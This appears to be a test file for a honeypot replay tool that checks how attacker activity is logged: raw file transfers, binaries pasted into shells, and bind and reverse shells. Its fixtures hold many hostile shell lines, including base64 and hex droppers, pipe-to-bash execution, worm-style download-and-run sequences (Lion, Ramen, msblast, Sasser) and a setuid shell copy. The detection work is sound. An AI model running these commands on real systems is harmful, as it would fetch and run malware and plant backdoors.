# SPDX-License-Identifier: Apache-2.0
"""Files over bare TCP, files typed into shells, and shells over bare TCP, as `fishbowl replay` records them."""
import base64
import binascii
import gzip
import hashlib
import io
import random
import struct
import tarfile

import pytest

from fishbowl import bodies, replay_packets
from packets import ATTACKER, HONEYPOT, talk

ELF = b'\x7fELF\x01\x01\x01\0' + bytes(8) + random.Random(1).randbytes(3000)


def files(records):
    return [(r['fileinfo']['filename'], r['fileinfo']['size'], r['fileinfo']['state'], r['fileinfo'].get('sha256'))
            for r in records if r['event_type'] == 'fileinfo']


def whole(name, data):
    return name, len(data), 'CLOSED', hashlib.sha256(data).hexdigest()


def pieces(data, size=1000):
    return [data[at:at + size] for at in range(0, len(data), size)]


def tar():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo('kit/scan.sh')
        info.size = 5
        archive.addfile(info, io.BytesIO(b'hello'))
    return out.getvalue()


def pe():
    return b'MZ' + bytes(58) + struct.pack('<I', 0x80) + bytes(64) + b'PE\0\0' + random.Random(2).randbytes(900)


# ---- files over bare TCP ----

RAW = {
    'elf': ELF, 'pe': pe(), 'tar': tar(), 'gzip': gzip.compress(b'x' * 3000, mtime=0), 'script': b'#!/bin/sh\necho pwned\n',
    'zip': b'PK\3\4' + bytes(60), 'java-class': b'\xca\xfe\xba\xbe\0\0\0\x34' + bytes(50), 'bzip2': b'BZh91AY&SY' + bytes(40),
    'png': b'\x89PNG\r\n\x1a\n' + bytes(40), 'deb': b'!<arch>\ndebian-binary' + bytes(40), 'pdf': b'%PDF-1.4\n' + bytes(9),
    'rar': b'Rar!\x1a\x07\0' + bytes(40), 'pcap': struct.pack('<IHH', 0xa1b2c3d4, 2, 4) + bytes(16),
}


@pytest.mark.parametrize('kind', RAW)
@pytest.mark.parametrize('side', [0, 1])
def test_raw_file(tmp_path, kind, side):
    records = replay_packets(tmp_path, talk([(side, piece) for piece in pieces(RAW[kind])], 40000, 4444))
    assert files(records) == [whole('', RAW[kind])]
    [file] = [r for r in records if r['event_type'] == 'fileinfo']
    assert file['raw_file'] == {'type': kind}
    assert file['src_ip'] == ('192.0.2.10' if side else '198.51.100.7')
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'failed'}


def test_raw_file_behind_a_line(tmp_path):
    records = replay_packets(tmp_path, talk([(0, b'kit.elf 3016\n' + ELF[:500]), (0, ELF[500:])], 40000, 9999))
    assert files(records) == [whole('', ELF)]
    assert bodies(records, 'fileinfo') and [r['raw_file'] for r in records if r['event_type'] == 'fileinfo'] == [
        {'type': 'elf', 'header': 'kit.elf 3016'}]


def test_both_send_files(tmp_path):
    records = replay_packets(tmp_path, talk([(0, ELF), (1, tar())], 40000, 9999))
    assert sorted(files(records)) == sorted([whole('', ELF), whole('', tar())])


@pytest.mark.parametrize('data', [
    b'MZ' + bytes(300), b'\x7fELF\x09' + bytes(40), b'#!comment\n', b'\x1f\x8b\x08\xff' + bytes(40), b'BM' + b'\1' * 60,
    b'hello\n#!/bin/sh\n', b'\x00\x7fELF\x01\x01\x01' + bytes(40)])
def test_no_raw_file(tmp_path, data):
    assert files(replay_packets(tmp_path, talk([(0, data), (1, b'\1\2\3')], 40000, 4444))) == []


PLAIN = {
    'text': b'root:x:0:0:root:/root:/bin/bash\nftp:x:14:50:FTP:/var/ftp:/sbin/nologin\n' * 3, 'data': random.Random(4).randbytes(5000),
}


@pytest.mark.parametrize('kind', PLAIN)
@pytest.mark.parametrize('times', [1, 30])
@pytest.mark.parametrize('side', [0, 1])
def test_file_of_no_type(tmp_path, kind, times, side):
    """Its receiver says nothing."""
    data = PLAIN[kind] * times
    records = replay_packets(tmp_path, talk([(side, piece) for piece in pieces(data)], 40000, 4444))
    assert files(records) == [whole('', data)]
    assert [r['raw_file'] for r in records if r['event_type'] == 'fileinfo'] == [{'type': kind}]
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'failed'}


@pytest.mark.parametrize('steps', [
    [(0, PLAIN['data'][:900])], [(0, b'stats ' * 50 + b'\n')], [(0, PLAIN['text']), (1, b'?\n')], [(1, PLAIN['data']), (0, b'\1')]])
def test_no_file_of_no_type(tmp_path, steps):
    assert files(replay_packets(tmp_path, talk(steps, 40000, 4444))) == []


# ---- FTP's data between other hosts than those of the control connection ----

OTHER = '203.0.113.9'
SECRET = b'root:toor\n'
PORT, PASV = b'PORT 203,0,113,9,9,9\r\n', b'227 Entering Passive Mode (%s,9,9).\r\n'


def transfer(asked, said, command, ends, side, data=SECRET):
    steps = [(1, b'220 FTP server ready\r\n'), (0, b'USER a\r\n'), (1, b'331 ok\r\n'), (0, b'PASS b\r\n'), (1, b'230 ok\r\n'),
             (0, asked), (1, said), (0, command + b' k.txt\r\n'), (1, b'150 ok\r\n')]
    return talk([*steps, *talk([(side, data)], 20, 9 * 256 + 9, ends), (1, b'226 ok\r\n')], 40000, 2121)


@pytest.mark.parametrize('asked, said, command, ends, side', [
    (PORT, b'200 ok\r\n', b'RETR', (HONEYPOT, OTHER), 0), (PORT, b'200 ok\r\n', b'STOR', (HONEYPOT, OTHER), 1),
    (b'PASV\r\n', PASV % b'192,0,2,10', b'STOR', (OTHER, HONEYPOT), 0), (b'PASV\r\n', PASV % b'203,0,113,9', b'RETR', (ATTACKER, OTHER), 1),
    (b'PASV\r\n', PASV % b'10,0,0,1', b'RETR', (ATTACKER, HONEYPOT), 1)])
def test_ftp_elsewhere(tmp_path, asked, said, command, ends, side):
    assert files(replay_packets(tmp_path, transfer(asked, said, command, ends, side))) == [whole('k.txt', SECRET)]


@pytest.mark.parametrize('lost', [{5}, {5, 7}, {5, 6, 7}])
def test_ftp_end_was_not_seen(tmp_path, lost):
    """The last piece, and the FIN: what both sides count says so."""
    data = talk([(0, b'seen'), (0, b'not seen')], 20, 9 * 256 + 9, (HONEYPOT, ATTACKER))
    steps = [(1, b'220 FTP server ready\r\n'), (0, b'USER a\r\n'), (1, b'331 ok\r\n'), (0, b'PASS b\r\n'), (1, b'230 ok\r\n'),
             (0, b'PORT 198,51,100,7,9,9\r\n'), (1, b'200 ok\r\n'), (0, b'RETR k.txt\r\n'), (1, b'150 ok\r\n')]
    seen = [packet for n, packet in enumerate(data) if n not in lost]
    records = replay_packets(tmp_path, talk([*steps, *seen, (1, b'226 ok\r\n')], 40000, 21))
    [(name, _, state, sha256)] = files(records)
    assert (name, state, sha256) == ('k.txt', 'TRUNCATED', None)


def test_ftp_elsewhere_is_doubted(tmp_path):
    """Who says where the data will be cannot hide what is there."""
    request = b'GET /x HTTP/1.0\r\nHost: h\r\n\r\n'
    records = replay_packets(tmp_path, transfer(PORT, b'200 ok\r\n', b'RETR', (HONEYPOT, OTHER), 0, request))
    assert [http['url'] for http in bodies(records, 'http')] == ['/x']


# ---- files typed into shells ----

PROMPT = b'\r\n# '
BEGIN = [(1, b'\xff\xfb\x01\r\nlogin: '), (0, b'root\r\n'), (1, b'Password: '), (0, b'root\r\n'), (1, b'\r\n# ')]


def typed(*lines):
    steps = list(BEGIN)
    for line in lines:
        steps += [(0, line + b'\r\n'), (1, line + PROMPT)]
    return steps


def hexed(data, form=rb'\x%02x'):
    return b''.join(form % byte for byte in data)


def uu(data, name):
    lines = [binascii.b2a_uu(piece).rstrip(b'\n') for piece in pieces(data, 45)]
    return [b'begin 644 ' + name, *lines, b'`', b'end']


def loader(data, first, rest, form=rb'\x%02x', size=120):
    return [(rest if n else first) % hexed(piece, form) for n, piece in enumerate(pieces(data, size))]


B64 = [piece for piece in pieces(base64.b64encode(ELF), 76)]
CODED, HEX = base64.b64encode(ELF), binascii.hexlify(ELF)
OCTAL = rb'\%03o'
PASTED = {
    'echo': (loader(ELF, b'echo -ne "%s" > .d', b'echo -ne "%s" >> .d'), '.d'),
    'busybox': ([b'>/tmp/up && cd /tmp/', *loader(ELF, b"/bin/busybox echo -en '%s' >> up; /bin/busybox ECCHI",
                                               b"/bin/busybox echo -en '%s' >> up; /bin/busybox ECCHI"),
                 b'/bin/busybox chmod 777 up; ./up telnet'], 'up'),
    'bare': (loader(ELF, rb'echo -ne %s>d', rb'echo -ne %s>>d', form=rb'\\x%02x'), 'd'),
    'long': (loader(ELF, b'echo -ne "%s" > f', b'echo -ne "%s" >> f', size=2000), 'f'),
    'printf octal': (loader(ELF, b"printf '%s' > p", b"printf '%s' >> p", form=OCTAL), 'p'),
    'printf hex': (loader(ELF, b'printf "%s" > p', b'printf "%s" >> p'), 'p'),
    'printf %b': (loader(ELF, b"printf %%b '%s' > p", b"printf '%%b' '%s' >> p"), 'p'),
    'dollar': (loader(ELF, b"printf %%s $'%s' > q", b"printf %%s $'%s' >> q"), 'q'),
    'uuencode': (uu(ELF, b'kit.bin'), 'kit.bin'),
    'uudecode': ([b"uudecode << 'EOF'", *uu(ELF, b'k'), b'EOF'], 'k'),
    'uudecode -o': ([rb'uudecode -o /tmp/x <<\EOF', *uu(ELF, b'k'), b'EOF'], '/tmp/x'),
    'begin-base64': ([b'begin-base64 755 run', *B64, b'===='], 'run'),
    'here document': ([b"base64 -d > /tmp/k <<'END'", *B64, b'END'], '/tmp/k'),
    'cat into base64': ([b'cat << EOF | base64 --decode > k', *B64, b'EOF', b'chmod +x k'], 'k'),
    'echo into base64': ([b'echo ' + base64.b64encode(ELF) + b' | base64 -d > k; chmod 755 k'], 'k'),
    'quoted lines': ([b'echo "' + B64[0], *B64[1:-1], B64[-1] + b'" | base64 -d > k'], 'k'),
    'appended': ([line for piece in pieces(ELF, 300) for line in [b'echo ' + base64.b64encode(piece) + b'|base64 -d>>k']], 'k'),
    'openssl': ([b'openssl base64 -d -out k << EOF', *B64, b'EOF'], 'k'),
    'openssl enc': ([b'openssl enc -base64 -d > k << EOF', *B64, b'EOF'], 'k'),
    'typed until ^D': ([b'base64 -d > k', *B64, b'\x04chmod +x k', b'echo done'], 'k'),
    'hex': ([b'echo ' + binascii.hexlify(ELF) + b' | xxd -r -p > k'], 'k'),
    'python write': (loader(ELF, b'python -c "open(\'k\',\'wb\').write(\'%s\')"', b'python -c "open(\'k\', \'ab\').write(b\'%s\')"'), 'k'),
    'python base64': ([b"python3 -c 'import base64;open(\"/tmp/k\",\"wb\").write(base64.b64decode(\"%s\"))'" % CODED], '/tmp/k'),
    'python import': ([b'''python -c "open('k', 'w').write(__import__('base64').b64decode('%s'))"''' % CODED], 'k'),
    'python stdout': ([b"python3 -c 'import sys; sys.stdout.buffer.write(bytes.fromhex(\"%s\"))' > k" % HEX], 'k'),
    'python print': (loader(ELF, b"python2 -c 'print \"%s\",' > k", b"python2 -c 'print \"%s\",' >> k"), 'k'),
    'python codec': ([b"python -c 'print(\"%s\".decode(\"hex\"), end=\"\")' > k" % HEX], 'k'),
    'python numbers': ([b"python3 -c 'open(\"k\",\"wb\").write(bytes([%s]))'" % b', '.join(b'%d' % byte for byte in ELF)], 'k'),
    'python script': ([b'python3 - << EOF', b'import binascii', b'with open("k", "wb") as f:',
                       *(b'    f.write(binascii.unhexlify("%s"))' % binascii.hexlify(piece) for piece in pieces(ELF)), b'EOF'], 'k'),
    'perl print': (loader(ELF, b"perl -e 'print \"%s\"' > k", b"perl -e 'print \"%s\";' >> k"), 'k'),
    'perl base64': ([b"perl -MMIME::Base64 -e 'print decode_base64(\"%s\")' > k" % CODED], 'k'),
    'perl pack': ([b"perl -e 'print pack \"H*\", \"%s\"' > k" % HEX], 'k'),
    'perl open': ([b"perl -e 'open(F,\">k\");binmode F;print F pack(\"H*\",\"%s\");close F'" % HEX], 'k'),
    'perl open 3': ([b"perl -e 'open my $f, \">\", \"k\"; print {$f} pack(\"H*\", \"%s\")'" % HEX], 'k'),
    'php': ([b"php -r 'file_put_contents(\"k\", base64_decode(\"%s\"));'" % CODED], 'k'),
    'php fwrite': ([b"php -r '$f = fopen(\"k\", \"wb\"); fwrite($f, hex2bin(\"%s\"));'" % HEX], 'k'),
    'php echo': ([b"php -r 'echo base64_decode(\"%s\");' | dd of=k bs=1k" % CODED], 'k'),
    'sh -c': ([b'su -c "sh -c \'echo ' + CODED + b' | base64 -d > k\'"'], 'k'),
    'here text': ([b'base64 -d <<< ' + base64.b64encode(ELF) + b' > k'], 'k'),
}


@pytest.mark.parametrize('way', PASTED)
def test_pasted(tmp_path, way):
    lines, name = PASTED[way]
    assert files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23))) == [whole(name, ELF)]


def test_pasted_in_two_steps(tmp_path):
    lines = [b'echo %s >> k.b64' % piece for piece in B64] + [b'base64 -d k.b64 > k', b'rm k.b64']
    have = files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23)))
    assert sorted(have) == sorted([whole('k', ELF), whole('k.b64', b''.join(piece + b'\n' for piece in B64))])


def test_undone_by_a_line_alone(tmp_path):
    """No redirection is in the line that undoes it."""
    packed = gzip.compress(ELF, mtime=0)
    lines = [b'echo %s >> k.b64' % piece for piece in pieces(base64.b64encode(packed), 76)]
    lines += [b'openssl base64 -d -in k.b64 -out k.gz', b'gunzip k.gz']
    have = files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23)))
    assert whole('k.gz', packed) in have and whole('k', ELF) in have


def test_pasted_into_a_shell(tmp_path):
    """No file is named: what is run is told."""
    script = b'#!/bin/sh\nwget http://198.51.100.1/x; sh x\n'
    have = files(replay_packets(tmp_path, talk(typed(b'echo ' + base64.b64encode(script) + b' | base64 -d | bash'), 40000, 23)))
    assert have == [whole('', script)]


def test_code_that_is_hidden(tmp_path):
    script = b'import os\nos.system("wget http://198.51.100.1/x")\n'
    lines = [b'''python -c "exec(__import__('base64').b64decode('%s'))"''' % base64.b64encode(script)]
    assert files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23))) == [whole('', script)]


def test_script_in_a_here_document(tmp_path):
    script = b'#!/bin/sh\n\n\techo "a > b"\nexit\n'
    lines = [b'cat > /tmp/run.sh << "E"', *script.rstrip(b'\n').split(b'\n'), b'E', b'sh /tmp/run.sh']
    assert files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23))) == [whole('/tmp/run.sh', script)]


def test_several_files(tmp_path):
    lines = [b'echo -ne "\\x41" > a; echo -n B > b', b'echo -n C >> a', b'echo new > b', b'echo x > /dev/null 2>&1', b'cat /x > y',
             b'wget http://h/z > z']
    assert sorted(files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23)))) == sorted([
        whole('a', b'AC'), whole('b', b'B'), whole('b', b'new\n')])


def test_cut_here_document(tmp_path):
    [(name, size, state, digest)] = files(replay_packets(tmp_path, talk(typed(b'cat > k << EOF', b'one'), 40000, 23)))
    assert (name, size, state, digest) == ('k', 4, 'TRUNCATED', None)


# ---- shells over bare TCP ----

SHELLS = {
    'bind': (0, [(0, b'id\n'), (1, b'uid=0(root) gid=0(root) groups=0(root)\n'), (0, b'uname -a\n'),
                 (1, b'Linux box 5.10.0 #1 SMP x86_64 GNU/Linux\n'), (0, b'exit\n')],
             [('id', 'uid=0(root) gid=0(root) groups=0(root)'), ('uname -a', 'Linux box 5.10.0 #1 SMP x86_64 GNU/Linux'),
              ('exit', '')]),
    'reverse': (1, [(0, b'bash: no job control in this shell\nwww@box:/$ '), (1, b'whoami\n'), (0, b'whoami\nwww\nwww@box:/$ '),
                    (1, b'ls /\n'), (0, b'ls /\nbin\netc\nwww@box:/$ ')],
                [('whoami', 'www\nwww@box:/$'), ('ls /', 'bin\netc\nwww@box:/$')]),
    'windows': (1, [(0, b'Microsoft Windows [Version 10.0.19045.2965]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Temp>'),
                    (1, b'whoami\n'), (0, b'whoami\r\nbox\\user\r\n\r\nC:\\Temp>'), (1, b'dir\n'),
                    (0, b'dir\r\n Volume in drive C is OS\r\n\r\nC:\\Temp>')],
                [('whoami', 'box\\user\r\n\r\nC:\\Temp>'), ('dir', 'Volume in drive C is OS\r\n\r\nC:\\Temp>')]),
    'prompts': (0, [(1, b'# '), (0, b'cd /tmp\n'), (1, b'# '), (0, b'./x\n'), (1, b'# ')], [('cd /tmp', '#'), ('./x', '#')]),
    'silent': (0, [(0, b'cd /tmp\n'), (0, b'wget http://h/x\n'), (1, b'connecting\n'), (0, b'chmod +x x\n'), (0, b'ls -l\n'),
                   (1, b'x\n')],
               [('cd /tmp', ''), ('wget http://h/x', 'connecting'), ('chmod +x x', ''), ('ls -l', 'x')]),
    'fetch': (0, [(0, b'cd /tmp\n'), (0, b'wget http://h/x\n'), (1, b'connected!\n'), (0, b'cd rk; ./install\n'), (1, b'done\n')],
              [('cd /tmp', ''), ('wget http://h/x', 'connected!'), ('cd rk; ./install', 'done')]),
    'late': (0, [(1, b'what is said before anybody knows\n' * 20), (0, b'x\n'), (1, b'sh: 1: x: not found\n$ '), (0, b'id\n'),
                 (1, b'uid=33(www-data) gid=33(www-data)\n$ ')],
             [('x', 'sh: 1: x: not found\n$'), ('id', 'uid=33(www-data) gid=33(www-data)\n$')]),
}


@pytest.mark.parametrize('kind', SHELLS)
def test_raw_shell(tmp_path, kind):
    typist, steps, expected = SHELLS[kind]
    records = replay_packets(tmp_path, talk(steps, 40000, 31337))
    more = {'reverse': True} if typist else {}
    assert bodies(records, 'shell') == [{'command': command, 'output': output, **more} for command, output in expected]
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'shell'}


def test_password_in_a_raw_shell(tmp_path):
    records = replay_packets(tmp_path, talk([(0, b'bash: no job control in this shell\nwww@box:/$ '), (1, b'su\n'), (0, b'Password: '),
                                     (1, b'toor\n'), (0, b'\nroot@box:/# ')], 40000, 31337))
    [login] = [r for r in records if r['event_type'] == 'login']
    assert login['login'] == {'method': 'password', 'password': 'toor', 'result': 'success'}
    assert login['src_ip'] == '192.0.2.10'
    assert [line['command'] for line in bodies(records, 'shell')] == ['su']


def test_file_in_a_raw_shell(tmp_path):
    steps = [(0, b'sh-4.4$ '), (1, b'cd /tmp\n'), (0, b'sh-4.4$ ')]
    for line in loader(ELF, b'echo -ne "%s" > .d', b'echo -ne "%s" >> .d'):
        steps += [(1, line + b'\n'), (0, b'sh-4.4$ ')]
    records = replay_packets(tmp_path, talk(steps, 40000, 443))
    assert files(records) == [whole('.d', ELF)]
    assert [r['src_ip'] for r in records if r['event_type'] == 'fileinfo'] == ['192.0.2.10']


# What was spoken before the shell was there: by who breaks in and the server, which is none any more.
CODE = b'\x90' * 300 + random.Random(3).randbytes(100).replace(b'\n', b'') + b'/bin/sh'
TAKEN = {
    'ftp': [(1, b'220 pot FTP server (Version wu-2.6.0(1)) ready.\r\n'), (0, b'USER ftp\r\n'), (1, b'331 Guest login ok.\r\n'),
            (0, b'PASS ' + CODE + b'\r\n'), (1, b'230 Guest login ok\r\n'), (0, b'CWD ~{\r\n'), (1, b'sP'), (0, CODE)],
    'http': [(0, b'POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nBBBBB\r\nffffff6e\r\n' + CODE)],
    'tls': [(0, b'\x80\x0b\1\0\2\0\0\0\0\0\x10'), (1, b'\x80\x21\4\0\1\0\2' + bytes(28)), (0, b'\x80\xd4' + b'\x90' * 0xd4)],
    'ssh': [(1, b'SSH-1.99-OpenSSH_2.2.0p1\n'), (0, b'SSH-1.5-OpenSSH_1.2.3\n'), (1, bytes(260)), (0, b'\0\1\x57\0' + CODE)],
    'imap': [(1, b'* OK pot IMAP4rev1 v10.234 server ready\r\n'), (0, b'* AUTHENTICATE {407}\r\n'), (1, b'+ Ready\r\n'),
             (0, CODE + b'\r\n')],
    'dns': [(0, struct.pack('>H', 12) + b'\xde\xad\1' + bytes(9)), (0, CODE)],
    'unknown': [(0, b'\x80\0\2\0' + CODE), (1, b'\1\2\0\3'), (0, CODE), (1, bytes(600)), (0, bytes(600))],
}


@pytest.mark.parametrize('before', TAKEN)
def test_shell_in_a_connection_of_something_else(tmp_path, before):
    shown = b'uid=0(root) gid=0(root) groups=50(ftp)\nLinux pot 2.2.14-5.0 #1 Tue Mar 7 21:07:39 EST 2000 i686 unknown\n'
    steps = [(0, b'unset HISTFILE; id; uname -a\n'), (1, shown), (0, b'cat > k << E\n#!/bin/sh\nE\n'), (0, b'cat /etc/issue\n'),
             (1, b'Red Hat Linux\n')]
    records = replay_packets(tmp_path, talk(TAKEN[before] + steps, 40000, 21))
    lines = bodies(records, 'shell')
    assert [line['command'] for line in lines] == ['unset HISTFILE; id; uname -a', 'cat > k << E', '#!/bin/sh', 'E', 'cat /etc/issue']
    assert (lines[0]['output'], lines[-1]['output']) == (shown.decode().rstrip(), 'Red Hat Linux')
    assert whole('k', b'#!/bin/sh\n') in files(records)
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'shell'}


@pytest.mark.parametrize('typed, shown', [
    (b'/bin/uname -a;/usr/bin/id;\n', b'SunOS pot 5.8 Generic_108528-05 sun4u sparc SUNW,Ultra-5_10\nuid=0(root) gid=0(root)\n'),
    (b'echo "*** IN ***";uname -a;id\n', b'*** IN ***\nLinux pot 2.4.7-10 #1 Thu Sep 6 i686 unknown\nuid=0(root) gid=0(root)\n'),
    (b'TERM=xterm; export TERM=xterm; exec bash -i\n', b'bash: no job control in this shell\nbash-2.05$ ')])
def test_shell_in_a_connection_answers(tmp_path, typed, shown):
    lines = bodies(replay_packets(tmp_path, talk(TAKEN['ftp'] + [(0, typed), (1, shown)], 40000, 21)), 'shell')
    assert lines == [{'command': typed.decode().strip(), 'output': shown.decode().strip()}]


@pytest.mark.parametrize('asked, answer', [
    (b'GET / HTTP/1.0\r\n\r\n', b'uid=0(root) gid=0(root)\n'), (b'GET /?id HTTP/1.0\r\n\r\n', b'HTTP/1.0 200 OK\r\n\r\nuid=0(root) gid=0(root)\n'),
    (b'POST / HTTP/1.0\r\nContent-Length: 3\r\n\r\nid\n', b'HTTP/1.0 200 OK\r\n\r\nuid=0(root) gid=0(root)\n')])
def test_not_taken_over(tmp_path, asked, answer):
    records = replay_packets(tmp_path, talk([(0, asked), (1, answer)], 40000, 80))
    assert bodies(records, 'shell') == []
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'http'}


SASSER = (b'echo off&echo open 198.51.100.7 5554>>cmd.ftp&echo anonymous>>cmd.ftp&echo user&echo bin>>cmd.ftp'
          b'&echo get 1_up.exe>>cmd.ftp&echo bye>>cmd.ftp&echo on&ftp -s:cmd.ftp&1_up.exe&echo off&del cmd.ftp&echo on')


LION = [b'TERM="linux"', b'export PATH="/sbin:/usr/sbin:/bin:/usr/bin:/usr/local/bin"', b'lynx -dump http://198.51.100.7/crew.tgz >1i0n.tgz',
        b'tar -zxvf 1i0n.tgz', b'cd lib', b'./1i0n.sh', b'exit']


@pytest.mark.parametrize('before', TAKEN)
def test_nobody_answers_any_more(tmp_path, before):
    steps = TAKEN[before] + [(0, line + b'\n') for line in LION]
    lines = bodies(replay_packets(tmp_path, talk(steps, 40000, 53)), 'shell')
    assert [line['command'] for line in lines] == [line.decode() for line in LION]


def test_attack_that_nobody_answers(tmp_path):
    asked = b'GET /cgi-bin/x?a=;wget http://h/k;sh k HTTP/1.0\r\n\r\n'
    records = replay_packets(tmp_path, talk([(0, asked)], 40000, 80))
    assert bodies(records, 'shell') == []
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'http'}


def test_many_lines_at_once(tmp_path):
    """Ramen's."""
    typed = [b'mkdir /usr/src/.poop;cd /usr/src/.poop', b'export TERM=vt100', b'lynx -source http://198.51.100.7:27374 > ramen.tgz',
             b'cp ramen.tgz /tmp', b'gzip -d ramen.tgz', b'tar -xvf ramen.tar', b'./start.sh', b'echo Eat Your Ramen! | mail -s x a@example.com']
    lines = bodies(replay_packets(tmp_path, talk([(0, b'\n'.join(typed) + b'\n'), (1, b'done\n')], 40000, 39168)), 'shell')
    assert [line['command'] for line in lines] == [line.decode() for line in typed]


@pytest.mark.parametrize('lines', [
    LION, [b'tftp -i 198.51.100.7 GET msblast.exe', b'start msblast.exe', b'msblast.exe'], [SASSER],
    [b'cd /tmp', b'wget http://198.51.100.7/x', b'./x'], [b'unset HISTFILE; mkdir /dev/.x; cp /bin/sh /dev/.x/sh; chmod 4755 /dev/.x/sh']])
def test_nobody_answers(tmp_path, lines):
    records = replay_packets(tmp_path, talk([(0, line + b'\n') for line in lines], 40000, 9996))
    assert [line['command'] for line in bodies(records, 'shell')] == [line.decode() for line in lines]


@pytest.mark.parametrize('steps', [
    [(0, b'hello\nwget http://h/x\n')], [(0, b'id\n')], [(0, b'echo 1\nstats\nversion\nget a\n')],
    [(0, b'start; stop; echo\n')], [(0, b'PORT=31337\nPASS=x\nROOT=/tmp\nNAME=y\n')],
    [(0, b'julien\r\n'), (1, b'Login: julien  Name: J\r\nDirectory: /home/julien  Shell: /bin/sh\r\nNo Plan.\r\n')],
    [(0, b'stats\r\n'), (1, b'STAT pid 1\r\nEND\r\n'), (0, b'get a\r\n'), (1, b'END\r\n'), (0, b'quit\r\n')],
    [(1, b'200 news.example ready\r\n'), (0, b'GROUP a.b\r\n'), (1, b'211 1 1 1 a.b\r\n')],
    [(0, b'/etc/passwd\r\n'), (1, b'root:x:0:0:root:/root:/bin/sh\n')],
    [(0, b'hello\n'), (1, b'hello\n'), (0, b'id?\n'), (1, b'id?\n')]])
def test_no_raw_shell(tmp_path, steps):
    records = replay_packets(tmp_path, talk(steps, 40000, 7979))
    assert bodies(records, 'shell') == []


# ---- a file that comes in parts ----

@pytest.mark.parametrize('last', [3016, 2500], ids=['whole', 'cut'])
def test_parts_over_http(tmp_path, last):
    steps = []
    for at, end in ((0, 1000), (1000, 2000), (2000, last)):
        head = f'HTTP/1.1 206 Part\r\nContent-Length: {end - at}\r\nContent-Range: bytes {at}-{end - 1}/{len(ELF)}\r\n\r\n'
        steps += [(0, f'GET /bin/kit HTTP/1.1\r\nHost: h\r\nRange: bytes={at}-{end - 1}\r\n\r\n'.encode()),
                  (1, head.encode() + ELF[at:end])]
    records = replay_packets(tmp_path, talk(steps, 40000, 8000))
    [file] = [r for r in records if r['event_type'] == 'fileinfo']
    assert files(records) == [whole('/bin/kit', ELF) if last == len(ELF) else ('/bin/kit', last, 'TRUNCATED', None)]
    assert file['app_proto'] == 'http' and file['src_ip'] == '192.0.2.10'
    assert file.get('http', {}).get('status') == (206 if last == len(ELF) else None)
